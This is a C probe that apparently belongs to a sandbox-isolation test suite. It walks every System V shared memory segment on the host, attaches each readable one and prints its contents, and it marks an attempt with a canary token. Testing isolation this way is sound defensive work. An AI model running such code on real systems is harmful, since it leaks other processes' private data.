/*
 * family: injection
 * tries: read the host's System V shared memory: walk every segment (shmctl SHM_INFO, SHM_STAT_ANY), attach each one readable and print its text
 * source: none
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Bound: at most 64 KiB printed per segment, printable bytes only.
 */
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>

int
main(int argc, char **argv)
{
	struct shm_info info;
	struct shmid_ds ds;
	int max, i, id, seen = 0;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	if ((max = shmctl(0, SHM_INFO, (struct shmid_ds *)(void *)&info)) < 0) {
		printf("SHM_INFO: %s\n", strerror(errno));
		return 1;
	}
	for (i = 0; i <= max; i++) {
		const unsigned char *p;
		size_t n;

		if ((id = shmctl(i, SHM_STAT_ANY, &ds)) < 0)
			continue;
		seen++;
		if ((p = shmat(id, NULL, SHM_RDONLY)) == (void *)-1) {
			printf("segment %d: %s\n", id, strerror(errno));
			continue;
		}
		printf("segment %d (%zu bytes): ", id, ds.shm_segsz);
		for (n = 0; n < ds.shm_segsz && n < 65536; n++)
			if (isprint(p[n]) || p[n] == '\n')
				putchar(p[n]);
		putchar('\n');
		shmdt(p);
	}
	printf("%d segments seen\n", seen);
	return 0;
}
